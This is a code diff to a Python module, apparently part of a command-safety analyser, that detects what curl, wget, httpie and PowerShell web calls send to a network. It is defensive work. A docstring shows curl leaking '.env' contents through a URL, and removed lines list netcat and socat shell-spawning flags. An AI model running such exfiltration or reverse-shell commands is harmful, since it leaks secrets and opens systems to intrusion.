@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import re
 
-from clickstop.shell import options, requests, sending, writing
+from clickstop.shell import braces, options, requests, sending, writing
+from clickstop.shell.option_table import ROWS
 from clickstop.shell.scope import FETCHED, Arg
 
 TYPE_CHECKING = False
@@ -12,50 +13,51 @@ if TYPE_CHECKING:
     from clickstop.shell.call import Call
     from clickstop.shell.options import Options
 
-_COPYING = {
-    "rclone": ("copy", "copyto", "sync", "move", "moveto"),
-    "aws": ("cp", "sync", "mv"),
-    "gsutil": ("cp", "rsync", "mv"),
-    "s3cmd": ("put", "sync"),
-}
+_RAW = ("telnet://", "gopher://", "dict://", "mqtt://", "smtp://", "smtps://")
 
 
 def effects(call: Call) -> None:
     name = call.name
-    if name == "curl":
+    if name in ("curl", "curlie"):
         _curl(call)
-    elif name == "wget":
+    elif name in ("wget", "wget2"):
         _wget(call)
-    elif name in ("scp", "rcp"):
-        _scp(call)
-    elif name in ("nc", "ncat", "netcat", "socat", "telnet"):
-        _raw(call)
-    elif name in ("http", "https", "xh"):
+    elif name in ("http", "https", "xh", "xhs"):
         _httpie(call)
-    elif name in _COPYING:
-        _copied(call)
-    elif name in ("mail", "mailx", "sendmail"):
-        sending.stdin(call, str(call.words[-1]) if call.words else "")
+    elif name in _POWERSHELL:
+        _powershell(call)
     else:
         operands = [word for word in call.words if not word.startswith("-")]
         call.add("reaches_network", target=operands[0] if operands else "")
 
 
 def _curl(call: Call) -> None:
-    found = options.of(call)
+    found = options.read([*call.words, *_configured(call)], ROWS["curl"])
     addresses = [*found.operands, *found.all("url")]
     for address in addresses or [Arg("")]:
         call.add("reaches_network", target=address)
     target = str(addresses[0]) if addresses else ""
     _in_address(call, addresses)
     sent = found.all("d", "data-raw", "data-binary", "data-urlencode", "data-ascii", "json", "F", "form-string")
-    for word in sent:
+    for word in found.all("d", "data-binary", "data-ascii", "json", "F"):
         _sent(call, word, target)
-    for word in found.all("T"):
-        if word in ("-", "."):
-            sending.stdin(call, target)
+    for word in found.all("data-urlencode", "url-query"):
+        name = word.partition("@")[0]
+        _sent(call, word if "=" in name else Arg(word[len(name) :] or word, word.raw), target)
+    for word in found.all("data-raw", "form-string"):
+        sending.text(call, word, target)
+    for word in found.all("H", "header", "proxy-header", "A", "user-agent", "e", "referer", "b", "cookie"):
+        if word.startswith("@"):
+            call.add_file("sends", Arg(word[1:], word.raw), detail=target)
         else:
-            call.add_file("sends", word, detail=target)
+            sending.header(call, word, target)
+    for word in found.all("u", "user", "oauth2-bearer"):
+        sending.header(call, Arg(f"authorization: {word}"), target)
+    for word in found.all("T", "upload-file"):
+        for name in braces.expand(str(word)):
+            sending.file(call, Arg("-" if name == "." else name, word.raw, word.pattern), target)
+    if target.startswith(_RAW):
+        sending.fed(call, target)
     method = "GET" if found.has("G", "I") else "POST" if sent else "PUT" if found.has("T") else ""
     requests.judge(call, str(found.value("X") or method), target, " ".join(sent), signed=_is_signed(found))
     _stored(call, found, addresses)
@@ -66,24 +68,35 @@ def _is_signed(found: Options) -> bool:
     return found.has("u", "oauth2-bearer") or any(word in headers for word in ("authorization", "token", "api-key"))
 
 
+def _configured(call: Call) -> list[Arg]:
+    """The options that a file, or the input, holds for `-K`: one on each line, with or without its dashes."""
+    made: list[Arg] = []
+    for word in options.of(call).all("K"):
+        written = call.scope.run.written
+        text = call.stdin or "" if word == "-" else written.get(str(word), written.get(call.path(word), ""))
+        for line in text.split("\n")[:50]:
+            name, sign, value = line.strip().partition("=")
+            name, value = (name, value) if sign else line.strip().partition(" ")[::2]
+            if name and not name.startswith("#"):
+                made += [Arg(f"--{name.strip().lstrip('-')}"), *([Arg(value.strip(" \"'"))] if value else [])]
+    return made
+
+
 def _sent(call: Call, word: Arg, target: str) -> None:
     """`-d @file`, `-F name=@file`, `-d @-`."""
     sign = re.match(r"(?:[^=@]*=)?[@<](.+)", word, re.DOTALL)
     if sign is None:
         sending.text(call, word, target)
         return
-    name = sign.group(1).partition(";")[0]
-    if name == "-":
-        sending.stdin(call, target)
-    else:
-        call.add_file("sends", Arg(name, word.raw), detail=target)
+    sending.file(call, Arg(sign.group(1).partition(";")[0], word.raw), target)
 
 
 def _in_address(call: Call, addresses: list[Arg]) -> None:
-    """`curl "https://host/?k=$(cat .env)"`."""
+    """`curl "https://host/?k=$(cat .env)"`; in the name of a host nothing else belongs."""
     for address in addresses:
-        if "$(" in address.raw or "`" in address.raw:
-            sending.said(call, str(address))
+        host = re.match(r"(?:\w+://)?[^/?#]*", address)
+        sending.all_of(call, [Arg(host.group())] if host else [], str(address))
+        sending.text(call, Arg(f"{address} "), str(address))
 
 
 def _stored(call: Call, found: Options, addresses: list[Arg]) -> None:
@@ -105,8 +118,10 @@ def _wget(call: Call) -> None:
     _in_address(call, found.operands)
     for word in found.all("post-data", "body-data"):
         sending.text(call, word, target)
+    for word in found.all("header", "U", "user-agent", "referer"):
+        sending.header(call, word, target)
     for word in found.all("post-file", "body-file"):
-        call.add_file("sends", word, detail=target)
+        sending.file(call, word, target)
     method = "POST" if found.has("post-data", "post-file") else ""
     requests.judge(call, str(found.value("method") or method), target)
     named = found.value("O")
@@ -124,48 +139,42 @@ def _wget(call: Call) -> None:
         writing.write(call, Arg(f"{folder}/{name}" if folder else name, address.raw), FETCHED)
 
 
-def _scp(call: Call) -> None:
-    found = options.of(call)
-    if not found.operands:
-        return
-    target = found.operands[-1]
-    call.add("reaches_network", target=target)
-    if ":" in target.partition("/")[0]:
-        for word in found.operands[:-1]:
-            call.add_file("sends", word, detail=str(target), recursive=found.has("r"))
-    else:
-        writing.write(call, target, FETCHED)
-
-
-def _copied(call: Call) -> None:
-    """Into a store elsewhere: `rclone copy FOLDER remote:x`, `aws s3 cp FILE s3://x`."""
-    operands = options.of(call).operands
-    verbs = [place for place, word in enumerate(operands[:2]) if word in _COPYING[call.name]]
-    if not verbs:
-        return
-    target = operands[-1]
-    call.add("reaches_network", target=target)
-    for word in operands[verbs[0] + 1 : -1] if ":" in target else ():
-        if ":" not in word:
-            call.add_file("sends", word, detail=str(target), recursive=True)
-
-
-def _raw(call: Call) -> None:
-    words = [str(word) for word in call.words]
-    operands = options.of(call).operands
-    call.add("reaches_network", target=operands[0] if operands else "")
-    runs = any(re.fullmatch(r"-[a-z]*[ec]", word) for word in words) or any(
-        "exec:" in word.lower() for word in words
-    )
-    if runs and call.name != "telnet" and not {"-z", "-zv", "-vz"} & set(words):
-        call.add("executes_fetched", detail="a shell for whoever connects")
-    elif call.stdin:
-        sending.stdin(call, str(operands[0]) if operands else "")
-
-
 def _httpie(call: Call) -> None:
-    operands = [str(word) for word in call.words if not word.startswith("-")]
-    method = operands[0] if operands and operands[0].isupper() else ""
-    target = next((word for word in operands if word != method), "")
+    operands = options.of(call).operands
+    methods = [word for word in operands[:1] if word.isupper() and word.isalpha()]
+    rest = operands[len(methods) :]
+    target = str(rest[0]) if rest else ""
     call.add("reaches_network", target=target)
-    requests.judge(call, method or ("POST" if any("=" in word for word in operands[1:]) else ""), target)
+    _in_address(call, rest[:1])
+    for word in rest[1:]:
+        _item(call, word, target)
+    sending.stdin(call, target)
+    method = str(methods[0]) if methods else "POST" if any("=" in word for word in rest[1:]) else ""
+    requests.judge(call, method, target)
+
+
+def _item(call: Call, word: Arg, target: str) -> None:
+    """`field@file`, `field=@file`, `field:=@file`, `@file`; `Header:value`, `field=value`."""
+    sign = re.match(r"[^=:@]*(?:=|:=)?@(.+)", word, re.DOTALL)
+    if sign is not None:
+        sending.file(call, Arg(sign.group(1).partition(";")[0], word.raw), target)
+    elif re.match(r"[\w-]+:(?!=)", word):
+        sending.header(call, word, target)
+    else:
+        sending.text(call, word, target)
+
+
+_POWERSHELL = ("iwr", "irm", "Invoke-WebRequest", "Invoke-RestMethod")
+
+
+def _powershell(call: Call) -> None:
+    found = {
+        word.lower(): value for word, value in zip(call.words, call.words[1:], strict=False) if word[:1] == "-"
+    }
+    address = found.get("-uri") or next((word for word in call.words if "://" in word), Arg(""))
+    call.add("reaches_network", target=address)
+    _in_address(call, [address])
+    if "-infile" in found:
+        call.add_file("sends", found["-infile"], detail=str(address))
+    sending.text(call, found.get("-body", Arg("")), str(address))
+    requests.judge(call, str(found.get("-method", "")), str(address))
